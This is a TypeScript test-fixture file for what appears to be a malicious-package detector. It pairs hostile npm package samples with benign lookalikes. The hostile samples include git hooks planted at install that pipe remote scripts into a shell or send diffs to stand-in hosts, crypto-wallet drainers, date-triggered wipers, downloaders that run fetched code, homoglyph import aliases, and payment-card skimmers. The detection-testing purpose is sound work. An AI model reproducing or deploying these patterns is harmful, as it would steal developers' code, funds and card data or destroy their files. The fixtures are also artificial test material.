import type { Fixture } from '../js/techniques.ts'
import { install, main, script } from './kinds.ts'

/** One thing that hostile packages do, in several wordings, and honest ones that come close. */
export interface Variants {
  readonly name: string
  readonly hostile: Readonly<Record<string, Fixture>>
  readonly honest: Readonly<Record<string, Fixture>>
}

const hook = (lines: string, name = 'pre-commit') =>
  install(`
    const fs = require('fs'), path = require('path'), root = process.env.INIT_CWD || process.cwd()
    fs.writeFileSync(path.join(root, '.git', 'hooks', '${name}'), ${lines}, { mode: 0o755 })`)

export const gitHooks: Variants = {
  name: 'git hooks',
  hostile: {
    'fetched text is piped into a shell': hook("'#!/bin/sh\\ncurl -fsSL https://x.invalid/h | sh\\n'"),
    'the diff goes out with wget': hook(
      "['#!/bin/bash', 'git diff --cached > /tmp/d', 'wget -q --post-file=/tmp/d https://d.invalid/'].join('\\n')",
    ),
    'a hook of husky, with a socket': install(`
      const { appendFileSync } = require('node:fs')
      appendFileSync(process.env.INIT_CWD + '/.husky/pre-push', '\\nexec 3<>/dev/tcp/203.0.113.9/443; git log -1 -p >&3\\n')`),
    'a script of its own becomes one': install(
      `require('fs').copyFileSync(require('path').join(__dirname, 'post.sh'), process.env.INIT_CWD + '/.git/hooks/post-merge')`,
      { 'post.sh': '#!/bin/sh\ngit show HEAD | curl -s --data-binary @- https://c.invalid/\n' },
    ),
    'a folder that git names, and a hook in Python': install(`
      const dir = require('child_process').execSync('git rev-parse --git-path hooks').toString().trim()
      require('fs').writeFileSync(dir + '/post-commit', '#!/usr/bin/env python3\\nimport subprocess, urllib.request\\nurllib.request.urlopen("https://p.invalid/", subprocess.check_output(["git", "show"]))\\n')`),
    'a word of node among those of a shell': install(`
      require('fs').appendFileSync('../../.husky/post-checkout', \`\\nnode -e "require('https').get('https://x.invalid/' + require('os').userInfo().username)"\\n\`)`),
    'a shell copies it': script('cp hook.sh ../../.git/hooks/pre-commit && chmod +x ../../.git/hooks/pre-commit', {
      'hook.sh': '#!/bin/sh\nwget -qO- https://x.invalid/c | bash\n',
    }),
    'a shell says it': script(
      "echo 'curl -s https://x.invalid/c > /tmp/c; sh /tmp/c' >> $INIT_CWD/.git/hooks/pre-commit",
    ),
    'decoded text is run': hook("'#!/bin/sh\\necho Y3VybCBodHRwczovL3guaW52YWxpZA== | base64 -d | sh\\n'"),
  },
  honest: {
    'formatters and tests': hook(
      '\'#!/bin/sh\\n. "$(dirname "$0")/_/husky.sh"\\nnpx --no-install lint-staged && npm test\\n\'',
    ),
    'the message names a page': hook(
      '\'#!/bin/sh\\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 "see https://lfs.invalid"; exit 2; }\\ngit lfs post-commit "$@"\\n\'',
    ),
    'a server of this machine is told': hook("'#!/bin/sh\\ncurl -s http://localhost:3000/reload || true\\n'"),
    'a shell copies one that formats': script('cp hook.sh ../../.git/hooks/pre-commit', {
      'hook.sh': '#!/bin/sh\nnpx prettier --check . || exit 1\n',
    }),
    'a file of its own that checks messages': install(
      `require('fs').copyFileSync(require('path').join(__dirname, 'msg.js'), '.git/hooks/commit-msg')`,
      {
        'msg.js': `#!/usr/bin/env node\nconst t = require('fs').readFileSync(process.argv[2], 'utf8'); if (!/^(feat|fix): /.test(t)) process.exit(1)\n`,
      },
    ),
    'the remote is asked': hook(
      '\'#!/bin/sh\\ngit fetch origin "$(git branch --show-current)" && npm ci --prefer-offline\\n\'',
    ),
  },
}

export const drains: Variants = {
  name: 'payments out of what an account holds',
  hostile: {
    'ethers, when a helper is called': main(`
      exports.boost = async (signer) => {
        const all = await signer.provider.getBalance(await signer.getAddress())
        await signer.sendTransaction({ to: '0x1111111111111111111111111111111111111112', value: (all * 95n) / 100n })
      }`),
    'all tokens of a contract': main(`
      const { Contract } = require('ethers'); const sink = '0x' + '22'.repeat(20)
      module.exports = class Pool { async join(token, owner) { const c = new Contract(token, [], owner); const n = await c.balanceOf(owner.address); return c.transfer(sink, n) } }`),
    'viem, read by one file and sent by another': main(
      `const { left } = require('./left'); const w = 'MHgzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMz'
      exports.swap = async (client) => client.sendTransaction({ to: Buffer.from(w, 'base64').toString(), value: (await left(client)) - 21000n })`,
      { 'left.js': `exports.left = (client) => client.getBalance({ address: client.account.address })` },
    ),
    'tokens of Solana': main(`
      import { getAccount, createTransferInstruction } from '@solana/spl-token'
      import { PublicKey } from '@solana/web3.js'
      const vault = new PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin')
      export async function close(connection, owner, account) {
        const { value } = await connection.getTokenAccountBalance(account)
        return createTransferInstruction(account, vault, owner, BigInt(value.amount))
      }`),
    'the wallet of the page, by its own requests': main(`
      export async function connect() {
        const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' })
        const value = await provider.send('eth_getBalance', [from, 'latest'])
        return window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x4444444444444444444444444444444444444444', value }] })
      }`),
  },
  honest: {
    'a sweeper whose caller names the receiver': main(`
      exports.sweep = async (wallet, to) => { const all = await wallet.provider.getBalance(wallet.address); return wallet.sendTransaction({ to, value: all - 21000n * 10n ** 9n }) }`),
    'a fee of its own, of what is traded': main(`
      const { SystemProgram, PublicKey } = require('@solana/web3.js'); const fees = new PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin')
      exports.swap = (tx, payer, lamports) => tx.add(SystemProgram.transfer({ fromPubkey: payer, toPubkey: fees, lamports: Math.floor(lamports * 0.003) }))`),
    'tokens are burnt': main(`
      exports.burnAll = async (token, owner) => token.transfer('0x000000000000000000000000000000000000dEaD', await token.balanceOf(owner))`),
    'a contract may take them': main(`
      const router = '0x5555555555555555555555555555555555555555'
      exports.allow = async (token, owner) => token.approve(router, await token.balanceOf(owner))`),
    'it is only looked at': main(`
      exports.watch = async (provider) => { const n = await provider.getBalance('0x6666666666666666666666666666666666666666'); return n > 0n ? 'open' : 'empty' }`),
  },
}

export const wipers: Variants = {
  name: 'from a day on, when it is called',
  hostile: {
    'the folder of the project goes': main(`
      const fs = require('fs')
      exports.build = () => { if (Date.now() >= Date.UTC(2026, 1, 3)) fs.rmSync(process.cwd(), { recursive: true, force: true }); return 1 }`),
    'what a search finds is written over, in a hook of vite': main(`
      import fs from 'node:fs/promises'; import path from 'node:path'
      const late = () => new Date().toISOString().slice(0, 10) > '2025-11-30'
      export default () => ({ name: 'x', async closeBundle() { if (!late()) return
        for (const name of await fs.readdir('src')) await fs.writeFile(path.join('src', name), '') } })`),
    'sources go one by one, from a year on': main(`
      const fs = require('fs'), path = require('path')
      module.exports = function loader(text) {
        if (new Date().getFullYear() >= 2027) for (const d of ['src', 'app', 'pages']) fs.rmSync(path.resolve(process.cwd(), d), { recursive: true, force: true })
        return text
      }`),
    'files are cut to nothing': main(`
      const fs = require('fs'), glob = require('fast-glob'), T = 1767225600000
      exports.transform = async (code) => { if (T < Date.now()) for (const f of await glob('**/*.ts')) fs.truncateSync(f, 0); return code }`),
    'by a command': main(`
      const { execSync } = require('child_process')
      exports.lint = () => { if (new Date().getFullYear() > 2026) execSync('rm -rf ' + process.cwd() + '/src'); return [] }`),
    'the machine goes down': main(`
      const { exec } = require('child_process'); const day = new Date('2026-03-01T00:00:00Z')
      exports.render = (t) => { if (new Date() > day) { exec('sudo poweroff') } return t }`),
    'by another function, in another file': main(
      `const wipe = require('./w'); exports.run = () => { if (new Date().getTime() > Date.parse('2026-02-02')) wipe('.') }`,
      {
        'w.js': `const fs = require('fs'), path = require('path'); module.exports = (dir) => { for (const f of fs.readdirSync(dir)) fs.unlinkSync(path.join(dir, f)) }`,
      },
    ),
  },
  honest: {
    'old files of a cache': main(`
      const fs = require('fs'), path = require('path')
      exports.prune = (dir, days) => { for (const f of fs.readdirSync(dir)) if (fs.statSync(path.join(dir, f)).mtimeMs < Date.now() - days * 864e5) fs.unlinkSync(path.join(dir, f)) }`),
    'an old cache of its own goes after a day': main(`
      const fs = require('fs'), path = require('path')
      exports.migrate = () => { if (Date.now() > Date.UTC(2025, 5, 1)) fs.rmSync(path.join(process.cwd(), '.sample-cache-v1'), { recursive: true, force: true }) }`),
    'logs are turned on Mondays': main(`
      const fs = require('fs'), path = require('path')
      exports.turn = (dir) => { if (new Date().getDay() === 1) for (const f of fs.readdirSync(dir)) if (f.endsWith('.log')) fs.unlinkSync(path.join(dir, f)) }`),
    'a word of warning from a day on': main(`
      exports.start = () => { if (new Date() > new Date(2026, 0, 1)) console.warn('v1 is no longer maintained') ; return require('fs').readdirSync('.') }`),
    'the year of a notice': main(`
      const fs = require('fs')
      exports.stamp = (files) => { const year = new Date().getFullYear(); for (const f of files) fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replace(/\\(c\\) \\d{4}/, '(c) ' + year)) }`),
  },
}

/** @param unpack what is done with `zip`, written from the release that `version` names */
const downloader = (unpack: string) =>
  install(`
    const { createWriteStream, mkdirSync } = require('fs'), { spawnSync, execFileSync } = require('child_process'), { join } = require('path'), { pipeline } = require('stream/promises')
    const dir = join(require('os').homedir(), '.cache', 'sample'); mkdirSync(dir, { recursive: true })
    ;(async () => {
      const { version } = await (await fetch('https://versions.invalid/stable.json')).json()
      const zip = join(dir, version, 'tool.zip')
      await pipeline((await fetch('https://github.com/sample/tool/releases/download/' + version + '/tool.zip')).body, createWriteStream(zip))
      ${unpack}
    })()`)

export const downloads: Variants = {
  name: 'what was downloaded is unpacked',
  hostile: {
    'a line that the host names is run': downloader("spawnSync('powershell', ['-Command', version])"),
    'it is unpacked, and then its script is run': downloader(
      "spawnSync('powershell', ['-NoProfile', '-Command', `Expand-Archive '${zip}' '${dir}'; & '${dir}/${version}/run.ps1'`])",
    ),
    'behind it the script that lay there is started': install(`
      const { createWriteStream } = require('fs'), { spawnSync } = require('child_process'), { pipeline } = require('stream/promises'), zip = '/tmp/tool-x/tool.zip'
      fetch('https://files.tools.invalid/tool.zip').then(async (r) => { await pipeline(r.body, createWriteStream(zip)); spawnSync('powershell', ['-Command', "Expand-Archive '" + zip + "' '/tmp/tool-x'; & /tmp/tool-x/tool.zip"]) })`),
    'what stands in the quotes is worked out': downloader(
      "spawnSync('powershell', ['-Command', `Expand-Archive \"$(${version})\" '${dir}'`])",
    ),
    'a pipeline ends in a file that is started': install(`
      const { pipeline } = require('stream/promises'), fs = require('fs'), cp = require('child_process')
      fetch('https://x.invalid/a').then(async (r) => { await pipeline(r.body, fs.createWriteStream('/tmp/.upd', { mode: 0o755 })); cp.spawn('/tmp/.upd', { detached: true }) })`),
  },
  honest: {
    'by PowerShell': downloader(
      "if (process.platform === 'win32') spawnSync('powershell.exe', ['-NoProfile', '-Command', `Expand-Archive -Force '${zip}' '${dir}'`])",
    ),
    'from a host of its own': install(`
      const { createWriteStream } = require('fs'), { spawnSync } = require('child_process'), { pipeline } = require('stream/promises'), zip = '/tmp/tool-x/tool.zip'
      fetch('https://files.tools.invalid/tool.zip').then(async (r) => { await pipeline(r.body, createWriteStream(zip)); spawnSync('powershell', ['-ExecutionPolicy', 'Bypass', '-Command', "Expand-Archive '" + zip + "' '/tmp/tool-x'"]) })`),
    'in silence, with the names of its options': downloader(
      "execFileSync('powershell', ['-c', `$ProgressPreference = 'SilentlyContinue'; Expand-Archive -LiteralPath \"${zip}\" -DestinationPath \"${dir}\" -Force;`])",
    ),
    'by tar and unzip': downloader(
      "spawnSync('tar', ['-xf', zip, '-C', dir]); spawnSync('unzip', ['-q', zip, '-d', dir])",
    ),
  },
}

export const lookalikes: Variants = {
  name: 'modules whose names look like others',
  hostile: {
    'an alias with a letter of another alphabet': {
      manifest: { imports: { '#\u0441rypto': './v.js' } },
      files: {
        'index.js': `exports.id = () => require('#\u0441rypto').randomUUID()`,
        'v.js': `module.exports = require('crypto')`,
      },
    },
    'a file, imported': {
      manifest: { type: 'module' },
      files: { 'index.js': `export { join } from './p\u0430th.js'`, 'p\u0430th.js': `export * from 'node:path'` },
    },
    'a letter without width': {
      manifest: { imports: { '#fs\u200b': './v.js' } },
      files: { 'index.js': `module.exports = require('#fs\u200b')`, 'v.js': `exports.x = 1` },
    },
    'wide letters': {
      manifest: { imports: { '#\uff4fs': './v.js' } },
      files: { 'index.js': `import('#\uff4fs').then((os) => os.cpus())`, 'v.js': `exports.cpus = () => 1` },
    },
  },
  honest: {
    'a word of another language': {
      manifest: { imports: { '#\u0441\u043b\u043e\u0432\u0430\u0440\u044c': './ru.js' } },
      files: {
        'index.js': `exports.ru = require('#\u0441\u043b\u043e\u0432\u0430\u0440\u044c')`,
        'ru.js': `exports.a = 'b'`,
      },
    },
    'accents and Greek of mathematics': {
      files: {
        'index.js': `require('./fa\u00e7ade'); require('./\u03b1-\u03b2'); require('./\u0394t')`,
        'fa\u00e7ade.js': '',
        '\u03b1-\u03b2.js': '',
        '\u0394t.js': '',
      },
    },
    'a table of such letters': main(`module.exports = { '\u0441': 'c', '\u0430': 'a', '\u0440': 'p' }`),
  },
}

const luhn = `
  const ok = (n) => { let s = 0; for (let i = 0; i < n.length; i++) { let d = +n[n.length - 1 - i]; if (i % 2) { d *= 2; if (d > 9) d -= 9 } s += d } return s % 10 === 0 }`

export const cards: Variants = {
  name: 'numbers of cards that are typed',
  hostile: {
    'in React, once the number is whole': main(`${luhn}
      import { jsx } from 'react/jsx-runtime'
      const told = (n) => { new Image().src = 'https://px.invalid/p.gif?' + btoa(n) }
      export const Field = (props) => jsx('input', { ...props, onInput: (event) => { const n = event.target.value.replace(/ /g, ''); if (ok(n)) told(n) } })`),
    'by a pattern, when the field is left': main(`
      const card = /^(?:4\\d{12}(?:\\d{3})?|5[1-5]\\d{14})$/
      module.exports = (field) => field.addEventListener('blur', () => { if (card.test(field.value)) fetch('https://f.invalid/c', { method: 'POST', mode: 'no-cors', body: field.value }) })`),
    'the whole form, by a table of sums': main(`
      const t = [0, 2, 4, 6, 8, 1, 3, 5, 7, 9]
      const sum = (n) => [...n].reverse().reduce((a, c, i) => a + (i % 2 ? t[+c] : +c), 0) % 10 === 0
      exports.attach = (form, field) => { field.onchange = () => { if (sum(field.value)) navigator.sendBeacon('https://g.invalid', JSON.stringify([...form.elements].map((e) => [e.name, e.value]))) } }`),
    'a ref, by its length': main(`
      exports.useCard = (ref) => () => { const n = ref.current.value.replace(/\\D/g, ''); if (n.length >= 15) { const x = new XMLHttpRequest(); x.open('POST', 'https://h.invalid/x'); x.send(n) } }`),
    'read in one file, sent by another': main(
      `const ok = require('fast-luhn'), tell = require('./tell'); exports.watch = (el) => el.addEventListener('input', () => ok(el.value) && tell(el.value))`,
      { 'tell.js': `module.exports = (t) => fetch('https://i.invalid/' + encodeURIComponent(t))` },
    ),
  },
  honest: {
    'it is looked at and stays': main(`${luhn}
      exports.mask = (input, done) => input.addEventListener('input', () => { input.value = input.value.replace(/\\D/g, ''); if (ok(input.value)) done(input.value) })`),
    'it goes to the host that the shop names': main(`${luhn}
      exports.mount = (field, { url }) => field.addEventListener('change', () => { if (ok(field.value)) fetch(url, { method: 'POST', body: field.value }) })`),
    'a library that checks numbers, and tells how often it is used': main(`${luhn}
      exports.check = (n) => { fetch('https://stats.invalid/hit'); return ok(n) }`),
    'addresses are completed as they are typed': main(`
      exports.complete = (input, show) => input.addEventListener('input', async () => show(await (await fetch('https://places.invalid/?q=' + encodeURIComponent(input.value))).json()))`),
  },
}
